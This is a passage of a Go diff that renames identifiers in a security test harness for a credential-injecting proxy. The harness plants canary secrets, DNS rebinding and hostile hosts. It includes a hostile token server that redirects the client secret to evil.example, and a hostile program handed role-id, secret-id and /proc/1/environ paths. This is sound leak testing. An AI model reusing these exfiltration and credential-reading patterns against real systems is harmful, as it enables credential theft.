@@ -25,8 +25,8 @@ import (
 	"github.com/chaperone-proxy/chaperone/internal/testenv/scenario"
 )
 
-// kind is one way to inject a credential. Its host is NAME.good.example.
-type kind struct {
+// credentialKind is one way to inject a credential. Its host is NAME.good.example.
+type credentialKind struct {
 	name   string
 	fields map[string]any // of secret/data/NAME, "" for another path
 	vault  string         // where it is read; "" for secret/data/NAME
@@ -40,16 +40,16 @@ type kind struct {
 // Canaries, one for each place that a secret is kept in. No two have twelve
 // letters in common.
 const (
-	headerCanary  = "Kq7+h3adER/CaNaRy=e4d5x"
-	basicCanary   = "Bz9/pAssW0rd+cANARY=f1"
-	queryCanary   = "Qr5=qUErY/cAnArY+8k2w"
-	cookieCanary  = "Ck3.c00kIE-CAnaRY_77pz"
-	keyIDCanary   = "AKIAQ3EXAMPLE7CANARY"
-	awsCanary     = "wJal/rXUt+nFEMI9bPxRfiCYcaNaRYkEy0"
-	sessionCanary = "FwoGZXIvYXdzEPtSeSsIoNcAnArY//8aDK"
-	clientCanary  = "cl1ent/SeCrEt+cAnaRY=aa"
-	tokenCanary   = "at.oAuTH2-T0keN_CaNaRy.39vX"
-	standInCanary = "Ph4/behINd+tHe=staNdIN5"
+	headerCanary      = "Kq7+h3adER/CaNaRy=e4d5x"
+	basicCanary       = "Bz9/pAssW0rd+cANARY=f1"
+	queryCanary       = "Qr5=qUErY/cAnArY+8k2w"
+	cookieCanary      = "Ck3.c00kIE-CAnaRY_77pz"
+	keyIDCanary       = "AKIAQ3EXAMPLE7CANARY"
+	awsCanary         = "wJal/rXUt+nFEMI9bPxRfiCYcaNaRYkEy0"
+	sessionCanary     = "FwoGZXIvYXdzEPtSeSsIoNcAnArY//8aDK"
+	clientCanary      = "cl1ent/SeCrEt+cAnaRY=aa"
+	tokenCanary       = "at.oAuTH2-T0keN_CaNaRy.39vX"
+	placeholderCanary = "Ph4/behINd+tHe=staNdIN5"
 )
 
 func headerOf(name, scheme string) func(testenv.WitnessedRequest, testenv.Witnessed) []string {
@@ -72,8 +72,8 @@ func request(r testenv.WitnessedRequest) *http.Request {
 }
 
 // kinds are all that there are.
-func kinds() []kind {
-	return []kind{
+func kinds() []credentialKind {
+	return []credentialKind{
 		{name: "header", envoy: true, fields: map[string]any{"api_key": headerCanary}, inject: `{header: Authorization, value: "Bearer {api_key}"}`, carried: headerOf("Authorization", "Bearer ")},
 		{name: "basic", envoy: true, fields: map[string]any{"password": basicCanary}, inject: `{basic: {username: weather, password: "{password}"}}`, carried: func(r testenv.WitnessedRequest, _ testenv.Witnessed) []string {
 			var out []string
@@ -104,19 +104,19 @@ func kinds() []kind {
 		{name: "oauth2", envoy: true, fields: map[string]any{"client_id": "weather", "client_secret": clientCanary}, inject: `{oauth2: {tokenURL: "TOKENS/token", caFile: api-ca.pem}}`, carried: headerOf("Authorization", "Bearer ")},
 		{name: "jwt", envoy: true, vault: "transit/sign/weather", inject: `{jwt: {algorithm: ES256, keyID: weather-1, issuer: weather, audience: "https://good.example"}}`, carried: headerOf("Authorization", "Bearer ")},
 		{name: "database", envoy: true, vault: "database/creds/weather", inject: `{header: X-Db-Password, value: "{password}"}`, carried: headerOf("X-Db-Password", "")},
-		{name: "placeholder", envoy: true, fields: map[string]any{"api_key": standInCanary}, inject: `{header: X-Api-Key, value: "{api_key}"}`, extra: "    placeholder: {env: STAND_IN, like: \"wk_{24}\"}\n", carried: headerOf("X-Api-Key", "")},
+		{name: "placeholder", envoy: true, fields: map[string]any{"api_key": placeholderCanary}, inject: `{header: X-Api-Key, value: "{api_key}"}`, extra: "    placeholder: {env: PLACEHOLDER, like: \"wk_{24}\"}\n", carried: headerOf("X-Api-Key", "")},
 	}
 }
 
-// house is everything that the attacks are made on, once for all doors: a Vault,
+// env is everything that the attacks are made on, once for all doors: a Vault,
 // a database, a name server, an identity provider, the host that is good, and
 // those that are not.
-type house struct {
-	t     *testing.T
-	world *scenario.Env // of which each door has its own folder
-	kinds []kind
-	ca    *testenv.CA
-	dns   *testenv.DNS
+type env struct {
+	t        *testing.T
+	scenario *scenario.Env // of which each door has its own folder
+	kinds    []credentialKind
+	ca       *testenv.CA
+	dns      *testenv.DNS
 
 	db     *testenv.Postgres
 	good   *testenv.Witness   // 127.0.0.1, port P
@@ -129,61 +129,61 @@ type house struct {
 	logins  map[string]error           // with leases that are short, by what the database says of them
 }
 
-func newHouse(t *testing.T) *house {
+func newEnv(t *testing.T) *env {
 	t.Helper()
 	testenv.Require(t, testenv.PostgreSQL())
-	h := &house{t: t, kinds: kinds(), secrets: map[string]map[string]bool{}, logins: map[string]error{}}
-	h.world = scenario.New(t, "off", "")
-	h.ca = testenv.MustGet(testenv.NewCA("an authority of the tests"))(t)
-	h.hosts()
-	h.fillVault()
-	return h
+	e := &env{t: t, kinds: kinds(), secrets: map[string]map[string]bool{}, logins: map[string]error{}}
+	e.scenario = scenario.New(t, "off", "")
+	e.ca = testenv.MustGet(testenv.NewCA("an authority of the tests"))(t)
+	e.startHosts()
+	e.fillVault()
+	return e
 }
 
-// hosts starts them. Those that are evil have certificates for the good names
+// startHosts starts the hosts. Those that are evil have certificates for the good names
 // too, so that it is not a certificate that keeps the credential from them.
-func (h *house) hosts() {
+func (e *env) startHosts() {
 	names := []string{"evil.example", "127.0.0.1", "127.0.0.2", "*.good.example", "*.bad.example", "*.tokens.example", "*.lease.example"}
-	for _, r := range rebound() {
+	for _, r := range reboundNames() {
 		names = append(names, "*."+r.name+".example")
 	}
 	tls := func(listen string, handler http.Handler) *testenv.Witness {
-		return testenv.MustWitness(h.t, testenv.WitnessConfig{CA: h.ca, Names: names, Listen: listen, Handler: handler})
+		return testenv.MustWitness(e.t, testenv.WitnessConfig{CA: e.ca, Names: names, Listen: listen, Handler: handler})
 	}
 	plain := func(listen string) *testenv.Witness {
-		return testenv.MustWitness(h.t, testenv.WitnessConfig{Listen: listen})
+		return testenv.MustWitness(e.t, testenv.WitnessConfig{Listen: listen})
 	}
-	h.good = tls("", http.HandlerFunc(h.betray))
-	port := fmt.Sprint(h.good.Addr.Port())
+	e.good = tls("", http.HandlerFunc(e.serveMalicious))
+	port := fmt.Sprint(e.good.Addr.Port())
 	evil, elsewhere, inClear := tls("127.0.0.2:"+port, nil), tls("", nil), plain("")
 	clearEvil := plain(fmt.Sprintf("127.0.0.2:%d", inClear.Addr.Port()))
-	h.evil = []*testenv.Witness{evil, elsewhere, inClear, clearEvil}
-	h.tokens = tls("", http.HandlerFunc(h.issue))
-	h.names = map[string]string{
+	e.evil = []*testenv.Witness{evil, elsewhere, inClear, clearEvil}
+	e.tokens = tls("", http.HandlerFunc(e.serveToken))
+	e.names = map[string]string{
 		"{P}": port, "{E}": "evil.example:" + port, "{e}": "evil.example",
 		"{OTHER}": fmt.Sprint(elsewhere.Addr.Port()), "{CLEAR}": fmt.Sprint(inClear.Addr.Port()),
 	}
-	h.dns = testenv.MustDNS(h.t)
-	for _, k := range h.kinds {
-		h.dns.Set(k.name+".good.example", netip.MustParseAddr("127.0.0.1"))
+	e.dns = testenv.MustDNS(e.t)
+	for _, k := range e.kinds {
+		e.dns.Set(k.name+".good.example", netip.MustParseAddr("127.0.0.1"))
 	}
-	for _, s := range h.spares() {
-		h.dns.Set(s.host, netip.MustParseAddr("127.0.0.1"))
+	for _, s := range e.decoys() {
+		e.dns.Set(s.host, netip.MustParseAddr("127.0.0.1"))
 	}
-	h.dns.Set("evil.example", netip.MustParseAddr("127.0.0.2"))
-	h.dns.Set("stated.good.example", netip.MustParseAddr("127.0.0.1"))
-	for _, k := range h.kinds {
-		for _, r := range rebound() {
-			h.rebind(k.name+"."+r.name+".example", r.records)
+	e.dns.Set("evil.example", netip.MustParseAddr("127.0.0.2"))
+	e.dns.Set("stated.good.example", netip.MustParseAddr("127.0.0.1"))
+	for _, k := range e.kinds {
+		for _, r := range reboundNames() {
+			e.rebind(k.name+"."+r.name+".example", r.records)
 		}
 	}
 }
 
 // rebind has a name resolve to records, or by turns to the good host and the
 // evil one.
-func (h *house) rebind(name, records string) {
+func (e *env) rebind(name, records string) {
 	if records == "" {
-		h.dns.SetSequence(name, []netip.Addr{netip.MustParseAddr("127.0.0.1")}, []netip.Addr{netip.MustParseAddr("127.0.0.2")})
+		e.dns.SetSequence(name, []netip.Addr{netip.MustParseAddr("127.0.0.1")}, []netip.Addr{netip.MustParseAddr("127.0.0.2")})
 		return
 	}
 	var lines []string
@@ -194,47 +194,47 @@ func (h *house) rebind(name, records string) {
 		}
 		lines = append(lines, owner+" 0 IN "+record)
 	}
-	testenv.Must(h.t, h.dns.SetRecords(name, lines...))
+	testenv.Must(e.t, e.dns.SetRecords(name, lines...))
 }
 
-// keep notes a secret and whose it is.
-func (h *house) keep(owner, secret string) {
-	h.mu.Lock()
-	defer h.mu.Unlock()
-	if h.secrets[owner] == nil {
-		h.secrets[owner] = map[string]bool{}
+// addSecret notes a secret and whose it is.
+func (e *env) addSecret(owner, secret string) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	if e.secrets[owner] == nil {
+		e.secrets[owner] = map[string]bool{}
 	}
-	h.secrets[owner][secret] = true
+	e.secrets[owner][secret] = true
 }
 
-func (h *house) owns(owner, secret string) bool {
-	h.mu.Lock()
-	defer h.mu.Unlock()
-	return h.secrets[owner][secret]
+func (e *env) hasSecret(owner, secret string) bool {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	return e.secrets[owner][secret]
 }
 
 // fillVault makes every credential.
-func (h *house) fillVault() {
-	t, ctx, v := h.t, h.t.Context(), h.world.Vault
-	_, der := h.clientKey()
-	for _, k := range h.kinds {
+func (e *env) fillVault() {
+	t, ctx, v := e.t, e.t.Context(), e.scenario.Vault
+	_, der := e.clientKey()
+	for _, k := range e.kinds {
 		if k.vault == "" && k.fields != nil {
 			testenv.Must(t, v.PutSecret(ctx, k.name, k.fields))
 		}
 		for name, value := range k.fields {
 			if text := fmt.Sprint(value); name != "client_id" && name != "access_key" {
-				h.keep(k.name, text)
+				e.addSecret(k.name, text)
 			}
 		}
 	}
 	for name, value := range badValues() {
 		testenv.Must(t, v.PutSecret(ctx, "bad-"+name, map[string]any{"v": value}))
-		h.keep("bad-"+name, value)
+		e.addSecret("bad-"+name, value)
 	}
-	h.keep("oauth2", tokenCanary)
-	h.keep("mtls", string(der))
-	h.db = testenv.MustPostgres(t)
-	testenv.Must(t, v.EnableDatabase(ctx, "database", h.db))
+	e.addSecret("oauth2", tokenCanary)
+	e.addSecret("mtls", string(der))
+	e.db = testenv.MustPostgres(t)
+	testenv.Must(t, v.EnableDatabase(ctx, "database", e.db))
 	testenv.Must(t, v.DatabaseRole(ctx, "database", "short", testenv.DatabaseRole{TTL: shortLease, MaxTTL: shortLease}))
 	testenv.Must(t, v.DatabaseRole(ctx, "database", "weather", testenv.DatabaseRole{}))
 	testenv.Must(t, v.EnableEngine(ctx, "transit", "transit", nil))
@@ -245,24 +245,24 @@ func (h *house) fillVault() {
 	if block == nil {
 		t.Fatal("Vault exports no key")
 	}
-	h.keep("jwt", string(block.Bytes))
+	e.addSecret("jwt", string(block.Bytes))
 	testenv.Must(t, v.Policy(ctx, "weather", `
 path "secret/data/*" { capabilities = ["read"] }
 path "database/creds/*" { capabilities = ["read"] }
 path "transit/sign/weather/*" { capabilities = ["update"] }
 path "sys/leases/revoke" { capabilities = ["update"] }`))
 	for _, file := range []string{"role-id", "secret-id"} {
-		h.keep("Vault's login", h.world.Read(file))
+		e.addSecret("Vault's login", e.scenario.Read(file))
 	}
 }
 
 // clientKey makes the certificate of the kind mtls.
-func (h *house) clientKey() (certificate, key []byte) {
-	pair := testenv.MustGet(h.ca.Issue("weather.example"))(h.t)
-	key = testenv.MustGet(x509.MarshalPKCS8PrivateKey(pair.PrivateKey))(h.t)
-	for i := range h.kinds {
-		if h.kinds[i].name == "mtls" {
-			h.kinds[i].fields = map[string]any{
+func (e *env) clientKey() (certificate, key []byte) {
+	pair := testenv.MustGet(e.ca.Issue("weather.example"))(e.t)
+	key = testenv.MustGet(x509.MarshalPKCS8PrivateKey(pair.PrivateKey))(e.t)
+	for i := range e.kinds {
+		if e.kinds[i].name == "mtls" {
+			e.kinds[i].fields = map[string]any{
 				"certificate": string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: pair.Certificate[0]})),
 				"private_key": string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: key})),
 			}
@@ -272,47 +272,47 @@ func (h *house) clientKey() (certificate, key []byte) {
 }
 
 // kindOf is the one whose host a request is for.
-func (h *house) kindOf(host string) *kind {
+func (e *env) kindOf(host string) *credentialKind {
 	name, _, _ := strings.Cut(strings.ToLower(host), ".")
-	for i := range h.kinds {
-		if h.kinds[i].name == name {
-			return &h.kinds[i]
+	for i := range e.kinds {
+		if e.kinds[i].name == name {
+			return &e.kinds[i]
 		}
 	}
 	return nil
 }
 
-// betray is how the good host answers: with the credential, in the way that the
+// serveMalicious is how the good host answers: with the credential, in the way that the
 // path asks for.
-func (h *house) betray(w http.ResponseWriter, r *http.Request) {
+func (e *env) serveMalicious(w http.ResponseWriter, r *http.Request) {
 	secret := "nothing"
-	if k := h.kindOf(r.Host); k != nil {
+	if k := e.kindOf(r.Host); k != nil {
 		seen := testenv.WitnessedRequest{Header: r.Header, Target: r.RequestURI}
 		if all := k.carried(seen, testenv.Witnessed{Certificates: testenv.PeerCertificates(r)}); len(all) > 0 && k.name != "mtls" {
 			secret = all[0]
 		}
 	}
 	if user, password, ok := r.BasicAuth(); ok && strings.HasPrefix(r.Host, "short.lease.") {
-		_, err := h.db.QueryAs(r.Context(), user, password, "SELECT 1")
-		h.mu.Lock()
-		defer h.mu.Unlock()
-		if was := h.logins[user]; was == nil {
-			h.logins[user] = err
+		_, err := e.db.QueryAs(r.Context(), user, password, "SELECT 1")
+		e.mu.Lock()
+		defer e.mu.Unlock()
+		if was := e.logins[user]; was == nil {
+			e.logins[user] = err
 		}
 		return
 	}
 	way, _, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/v1/"), "/")
-	betray(w, r, way, secret)
+	maliciousAnswer(w, r, way, secret)
 }
 
-// issue is the identity provider, which is hostile.
-func (h *house) issue(w http.ResponseWriter, r *http.Request) {
+// serveToken is the identity provider, which is hostile.
+func (e *env) serveToken(w http.ResponseWriter, r *http.Request) {
 	way := strings.TrimPrefix(r.URL.Path, "/")
 	_, secret, _ := r.BasicAuth()
 	answer := map[string]any{"access_token": tokenCanary, "expires_in": 3600}
 	switch way {
 	case "redirect":
-		w.Header().Set("Location", "https://evil.example:"+h.names["{P}"]+"/token?"+secret)
+		w.Header().Set("Location", "https://evil.example:"+e.names["{P}"]+"/token?"+secret)
 		w.WriteHeader(http.StatusTemporaryRedirect)
 		return
 	case "slow":
@@ -343,72 +343,72 @@ func (h *house) issue(w http.ResponseWriter, r *http.Request) {
 	_ = json.NewEncoder(w).Encode(answer) // an error means that it has gone
 }
 
-// room is a sidecar at one door, and the plugin in front of it.
-type room struct {
-	*house
-	t       *testing.T
-	world   *scenario.Env
-	envoy   *testenv.Envoy
-	metrics string
-	door    string            // Envoy's address
-	login   string            // the line that the proxy wants of a request
-	own     map[string]string // as house.names
-	stderr  *scenario.Buffer
-	hello   hello
-	cmd     *exec.Cmd
-	sidecar *scenario.Process
-	stdin   *json.Encoder
-	repeats map[string]int // how often attempts were made again, by id
+// harness is a sidecar at one door, and the plugin in front of it.
+type harness struct {
+	*env
+	t        *testing.T
+	scenario *scenario.Env
+	envoy    *testenv.Envoy
+	metrics  string
+	door     string            // Envoy's address
+	login    string            // the line that the proxy wants of a request
+	ownNames map[string]string // as env.names
+	stderr   *scenario.Buffer
+	view     pluginView
+	cmd      *exec.Cmd
+	sidecar  *scenario.Process
+	stdin    *json.Encoder
+	repeats  map[string]int // how often attempts were made again, by id
 
 	mu      sync.Mutex
-	waiting map[string]chan gotten
-	results map[string]gotten
+	waiting map[string]chan attemptResult
+	results map[string]attemptResult
 }
 
 // open starts a sidecar with the kernel half (required), without (off), or
 // behind Envoy (envoy).
-func (h *house) open(t *testing.T, door string) *room {
+func (e *env) open(t *testing.T, door string) *harness {
 	t.Helper()
-	r := &room{house: h, t: t, stderr: new(scenario.Buffer), repeats: map[string]int{}, waiting: map[string]chan gotten{}, results: map[string]gotten{}}
-	r.world = &scenario.Env{T: t, Dir: t.TempDir(), Vault: h.world.Vault, API: h.world.API}
-	testenv.Must(t, os.Chmod(filepath.Dir(r.world.Dir), 0o755))
+	h := &harness{env: e, t: t, stderr: new(scenario.Buffer), repeats: map[string]int{}, waiting: map[string]chan attemptResult{}, results: map[string]attemptResult{}}
+	h.scenario = &scenario.Env{T: t, Dir: t.TempDir(), Vault: e.scenario.Vault, API: e.scenario.API}
+	testenv.Must(t, os.Chmod(filepath.Dir(h.scenario.Dir), 0o755))
 	for _, file := range []string{"role-id", "secret-id"} {
-		r.world.Write(file, h.world.Read(file))
+		h.scenario.Write(file, e.scenario.Read(file))
 	}
-	testenv.Must(t, h.ca.WriteFile(r.world.File("api-ca.pem")))
-	r.metrics = freeAddress(t)
-	r.configure(door)
-	program := r.world.CopyProgram(hostileProgram)
+	testenv.Must(t, e.ca.WriteFile(h.scenario.File("api-ca.pem")))
+	h.metrics = freeAddress(t)
+	h.configure(door)
+	program := h.scenario.CopyProgram(hostileProgram)
 	args := []string{program}
 	for _, file := range []string{"role-id", "secret-id", "grant.yaml", "state/audit.jsonl", "state/placeholders.env", "state/admin.sock", "/proc/1/environ", fmt.Sprintf("/proc/%d/environ", os.Getpid())} {
 		if !strings.HasPrefix(file, "/") {
-			file = r.world.File(file)
+			file = h.scenario.File(file)
 		}
 		args = append(args, file)
 	}
 	if door == "envoy" {
-		serve := r.world.Command("serve", "--config", r.world.File("sidecar.yaml"))
-		serve.Env = append(serve.Env, "GOTRACEBACK=all") // see the end of room.search
-		r.sidecar = r.world.StartProcess(serve)
-		r.world.Ready()
-		r.startEnvoy()
-		r.cmd = exec.Command(program, args[1:]...)
-		r.cmd.Env = strings.Split(strings.TrimSpace(r.world.Read("state/"+"placeholders.env")), "\n")
-		r.cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 61998, Gid: 61998}}
+		serve := h.scenario.Command("serve", "--config", h.scenario.File("sidecar.yaml"))
+		serve.Env = append(serve.Env, "GOTRACEBACK=all") // see the end of harness.searchSecrets
+		h.sidecar = h.scenario.StartProcess(serve)
+		h.scenario.Ready()
+		h.startEnvoy()
+		h.cmd = exec.Command(program, args[1:]...)
+		h.cmd.Env = strings.Split(strings.TrimSpace(h.scenario.Read("state/"+"placeholders.env")), "\n")
+		h.cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 61998, Gid: 61998}}
 	} else {
-		r.cmd = r.world.Command(append([]string{"run", "--config", r.world.File("sidecar.yaml"), "--"}, args...)...)
+		h.cmd = h.scenario.Command(append([]string{"run", "--config", h.scenario.File("sidecar.yaml"), "--"}, args...)...)
 	}
-	r.startPlugin()
-	vault := r.selves()[0].port
-	r.own = map[string]string{"{VAULT}": vault, "{METRICS}": r.selves()[1].port, "{PROXY}": r.metrics[strings.LastIndex(r.metrics, ":")+1:]}
-	maps.Copy(r.own, standInTexts(r.environment("STAND_IN")))
-	h.keep("the stand-in", r.environment("STAND_IN"))
-	if proxy := r.environment("HTTPS_PROXY"); proxy != "" {
+	h.startPlugin()
+	vault := h.ownAddresses()[0].port
+	h.ownNames = map[string]string{"{VAULT}": vault, "{METRICS}": h.ownAddresses()[1].port, "{PROXY}": h.metrics[strings.LastIndex(h.metrics, ":")+1:]}
+	maps.Copy(h.ownNames, placeholderNames(h.environment("PLACEHOLDER")))
+	e.addSecret("the placeholder", h.environment("PLACEHOLDER"))
+	if proxy := h.environment("HTTPS_PROXY"); proxy != "" {
 		via := testenv.MustGet(url.Parse(proxy))(t)
-		r.login = proxyLogin(via)
-		r.own["{PROXY}"] = via.Port()
+		h.login = proxyLogin(via)
+		h.ownNames["{PROXY}"] = via.Port()
 	}
-	return r
+	return h
 }
 
 func freeAddress(t *testing.T) string {
@@ -419,72 +419,72 @@ func freeAddress(t *testing.T) string {
 }
 
 // startPlugin starts the plugin, by the sidecar or beside it, and reads its output.
-func (r *room) startPlugin() {
-	r.t.Helper()
-	stdin := testenv.MustGet(r.cmd.StdinPipe())(r.t)
-	stdout := testenv.MustGet(r.cmd.StdoutPipe())(r.t)
-	r.cmd.Stderr = r.stderr
-	testenv.Must(r.t, r.cmd.Start())
-	r.stdin = json.NewEncoder(stdin)
-	r.t.Cleanup(func() {
+func (h *harness) startPlugin() {
+	h.t.Helper()
+	stdin := testenv.MustGet(h.cmd.StdinPipe())(h.t)
+	stdout := testenv.MustGet(h.cmd.StdoutPipe())(h.t)
+	h.cmd.Stderr = h.stderr
+	testenv.Must(h.t, h.cmd.Start())
+	h.stdin = json.NewEncoder(stdin)
+	h.t.Cleanup(func() {
 		_ = stdin.Close() // at which the plugin ends, and its sidecar with it
 		ended := make(chan struct{})
-		go func() { _ = r.cmd.Wait(); close(ended) }() // how is looked at nowhere
+		go func() { _ = h.cmd.Wait(); close(ended) }() // how is looked at nowhere
 		select {
 		case <-ended:
 		case <-time.After(2 * time.Minute):
-			_ = r.cmd.Process.Kill()
+			_ = h.cmd.Process.Kill()
 			<-ended
 		}
 	})
 	in := json.NewDecoder(stdout)
-	if err := in.Decode(&r.hello); err != nil {
-		r.t.Fatalf("the plugin says nothing: %v\n%s", err, r.stderr.String())
+	if err := in.Decode(&h.view); err != nil {
+		h.t.Fatalf("the plugin says nothing: %v\n%s", err, h.stderr.String())
 	}
 	go func() {
 		for {
-			var g gotten
+			var g attemptResult
 			if in.Decode(&g) != nil {
 				return
 			}
-			r.take(g)
+			h.deliver(g)
 		}
 	}()
 }
 
-func (r *room) take(g gotten) {
-	r.mu.Lock()
-	defer r.mu.Unlock()
-	r.results[g.ID+" "+g.Event] = g
+func (h *harness) deliver(g attemptResult) {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	h.results[g.ID+" "+g.Event] = g
 	select {
-	case r.waiting[g.ID+" "+g.Event] <- g:
+	case h.waiting[g.ID+" "+g.Event] <- g:
 	default: // no test waits for another one
 	}
 }
 
 // expect returns where an event of an attempt arrives.
-func (r *room) expect(id, event string) <-chan gotten {
-	r.mu.Lock()
-	defer r.mu.Unlock()
-	c := make(chan gotten, 8)
-	r.waiting[id+" "+event] = c
+func (h *harness) expect(id, event string) <-chan attemptResult {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	c := make(chan attemptResult, 8)
+	h.waiting[id+" "+event] = c
 	return c
 }
 
 // await waits for an event.
-func (r *room) await(c <-chan gotten, what string) gotten {
-	r.t.Helper()
+func (h *harness) await(c <-chan attemptResult, what string) attemptResult {
+	h.t.Helper()
 	select {
 	case g := <-c:
 		return g
 	case <-time.After(5 * time.Minute):
-		r.t.Fatalf("not within five minutes: %s", what)
-		return gotten{}
+		h.t.Fatalf("not within five minutes: %s", what)
+		return attemptResult{}
 	}
 }
 
-func (r *room) environment(name string) string {
-	for _, pair := range r.hello.Env {
+func (h *harness) environment(name string) string {
+	for _, pair := range h.view.Env {
 		if value, ok := strings.CutPrefix(pair, name+"="); ok {
 			return value
 		}
@@ -494,45 +494,45 @@ func (r *room) environment(name string) string {
 
 // startEnvoy runs Envoy from the bootstrap that is shipped, with this test's
 // addresses, name server and authority in it.
-func (r *room) startEnvoy() {
-	root := testenv.MustGet(testenv.Root())(r.t)
-	text := string(testenv.MustGet(os.ReadFile(root + "/configs/envoy/bootstrap.yaml"))(r.t))
+func (h *harness) startEnvoy() {
+	root := testenv.MustGet(testenv.Root())(h.t)
+	text := string(testenv.MustGet(os.ReadFile(root + "/configs/envoy/bootstrap.yaml"))(h.t))
 	for _, change := range [][2]string{
-		{"/run/chaperone/weather", r.world.Dir},
+		{"/run/chaperone/weather", h.scenario.Dir},
 		{"port_value: 15080", "port_value: 0"},
-		{"/etc/ssl/certs/ca-certificates.crt", r.world.File("api-ca.pem")},
-		{"dns_lookup_family: V4_PREFERRED", fmt.Sprintf(`dns_lookup_family: V4_ONLY, typed_dns_resolver_config: {name: envoy.network.dns_resolver.cares, typed_config: {"@type": type.googleapis.com/envoy.extensions.network.dns_resolver.cares.v3.CaresDnsResolverConfig, resolvers: [{socket_address: {address: 127.0.0.1, port_value: %d}}]}}`, r.dns.Addr.Port())},
+		{"/etc/ssl/certs/ca-certificates.crt", h.scenario.File("api-ca.pem")},
+		{"dns_lookup_family: V4_PREFERRED", fmt.Sprintf(`dns_lookup_family: V4_ONLY, typed_dns_resolver_config: {name: envoy.network.dns_resolver.cares, typed_config: {"@type": type.googleapis.com/envoy.extensions.network.dns_resolver.cares.v3.CaresDnsResolverConfig, resolvers: [{socket_address: {address: 127.0.0.1, port_value: %d}}]}}`, h.dns.Addr.Port())},
 	} {
 		if !strings.Contains(text, change[0]) {
-			r.t.Fatalf("the bootstrap does not hold %q", change[0])
+			h.t.Fatalf("the bootstrap does not hold %q", change[0])
 		}
 		text = strings.ReplaceAll(text, change[0], change[1])
 	}
-	r.envoy = testenv.MustEnvoy(r.t, testenv.EnvoyConfig{Bootstrap: text})
-	r.door = testenv.MustGet(r.envoy.Listener(r.t.Context(), "plugin"))(r.t).String()
+	h.envoy = testenv.MustEnvoy(h.t, testenv.EnvoyConfig{Bootstrap: text})
+	h.door = testenv.MustGet(h.envoy.Listener(h.t.Context(), "plugin"))(h.t).String()
 }
 
 // shortLease is how long some logins to the database live.
 const shortLease = 6 * time.Second
 
-// spare are further credentials, each at a host of its own: ones that must
+// decoy is one of further credentials, each at a host of its own: ones that must
 // never be sent, and those of strange token endpoints.
-type spare struct{ host, path, inject string }
+type decoy struct{ host, path, inject string }
 
-func (h *house) spares() []spare {
-	var out []spare
+func (e *env) decoys() []decoy {
+	var out []decoy
 	for _, inject := range []string{`{header: X-Key, value: "{v}"}`, `{query: key, value: "{v}"}`, `{cookie: sid, value: "{v}"}`, `{basic: {username: u, password: "{v}"}}`} {
 		for name := range badValues() {
 			way := strings.TrimLeft(inject, "{")[:5]
-			out = append(out, spare{name + "-" + strings.Trim(way, " :") + ".bad.example", "secret/data/bad-" + name, inject})
+			out = append(out, decoy{name + "-" + strings.Trim(way, " :") + ".bad.example", "secret/data/bad-" + name, inject})
 		}
 	}
-	out = append(out, spare{"short.lease.example", "database/creds/short", `{basic: {username: "{username}", password: "{password}"}}`})
+	out = append(out, decoy{"short.lease.example", "database/creds/short", `{basic: {username: "{username}", password: "{password}"}}`})
 	for _, way := range []string{"redirect", "slow", "error", "unsaid", "zero", "negative", "huge", "text", "endless"} {
-		out = append(out, spare{way + ".tokens.example", "secret/data/oauth2", fmt.Sprintf(`{oauth2: {tokenURL: "TOKENS/%s", caFile: api-ca.pem}}`, way)})
+		out = append(out, decoy{way + ".tokens.example", "secret/data/oauth2", fmt.Sprintf(`{oauth2: {tokenURL: "TOKENS/%s", caFile: api-ca.pem}}`, way)})
 	}
 	for _, audience := range []string{"first", "second"} {
-		out = append(out, spare{audience + ".tokens.example", "secret/data/oauth2", fmt.Sprintf(`{oauth2: {tokenURL: "TOKENS/audience", audience: %s, caFile: api-ca.pem}}`, audience)})
+		out = append(out, decoy{audience + ".tokens.example", "secret/data/oauth2", fmt.Sprintf(`{oauth2: {tokenURL: "TOKENS/audience", audience: %s, caFile: api-ca.pem}}`, audience)})
 	}
 	return out
 }
@@ -546,26 +546,26 @@ func badValues() map[string]string {
 }
 
 // configure writes the files of one door.
-func (r *room) configure(door string) {
-	kernel, listen := door, fmt.Sprintf("proxy: %q, ", freeAddress(r.t))
+func (h *harness) configure(door string) {
+	kernel, listen := door, fmt.Sprintf("proxy: %q, ", freeAddress(h.t))
 	if door == "envoy" {
-		kernel, listen = "off", fmt.Sprintf("extAuthz: %q, ", "unix:"+r.world.File("ext_authz.sock"))
+		kernel, listen = "off", fmt.Sprintf("extAuthz: %q, ", "unix:"+h.scenario.File("ext_authz.sock"))
 	}
 	var hosts strings.Builder
 	add := func(name, address string) {
 		fmt.Fprintf(&hosts, "%s: [%s], ", name, address)
 	}
-	for _, k := range r.kinds {
+	for _, k := range h.kinds {
 		add(k.name+".good.example", "127.0.0.1")
 	}
-	for _, s := range r.spares() {
+	for _, s := range h.decoys() {
 		add(s.host, "127.0.0.1")
 	}
 	add("evil.example", "127.0.0.2")
-	for _, self := range r.selves() {
+	for _, self := range h.ownAddresses() {
 		add(self.host, "127.0.0.1")
 	}
-	r.world.Write("sidecar.yaml", fmt.Sprintf(`apiVersion: chaperone.dev/v1alpha1
+	h.scenario.Write("sidecar.yaml", fmt.Sprintf(`apiVersion: chaperone.dev/v1alpha1
 kind: Sidecar
 metadata: {name: weather}
 spec:
@@ -578,20 +578,20 @@ spec:
   audit: {paths: full}
   drain: 1s
   vault: {address: %s, auth: {method: approle, roleIDFile: role-id, secretIDFile: secret-id}}
-`, kernel, listen, r.metrics, r.dns.Addr, strings.TrimSuffix(hosts.String(), ", "), r.world.Vault.Address))
-	r.world.Write("grant.yaml", strings.ReplaceAll(r.grant(door == "envoy"), "TOKENS", fmt.Sprintf("https://127.0.0.1:%d", r.tokens.Addr.Port())))
+`, kernel, listen, h.metrics, h.dns.Addr, strings.TrimSuffix(hosts.String(), ", "), h.scenario.Vault.Address))
+	h.scenario.Write("grant.yaml", strings.ReplaceAll(h.grant(door == "envoy"), "TOKENS", fmt.Sprintf("https://127.0.0.1:%d", h.tokens.Addr.Port())))
 }
 
-// selves are granted names that resolve to the sidecar's own addresses.
-func (r *room) selves() []struct{ host, port string } {
-	_, metrics, _ := net.SplitHostPort(r.metrics)
